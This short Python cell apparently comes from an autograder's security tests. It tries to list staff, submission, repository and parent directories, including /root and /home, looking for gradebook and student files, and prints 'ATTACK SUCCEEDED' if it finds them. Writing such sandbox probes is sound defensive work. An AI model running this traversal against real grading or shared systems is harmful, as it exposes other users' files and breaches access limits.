# attacks = "names of students and files, by listing folders above the work folder"
# cells = ["ok"]
# %% own
import os
for folder in ("<<STAFF>>", "<<FOLDER>>/submitted", "<<FOLDER>>", "<<REPOSITORY>>", "/root", "/home", "/tmp/..", ".."*1 + "/.."):
    try:
        names = os.listdir(folder)
    except OSError:
        continue
    if {"gradebook.db", "submitted", "staff", "autograder"} & set(names):
        print("ATTACK SUCCEEDED", folder, names)
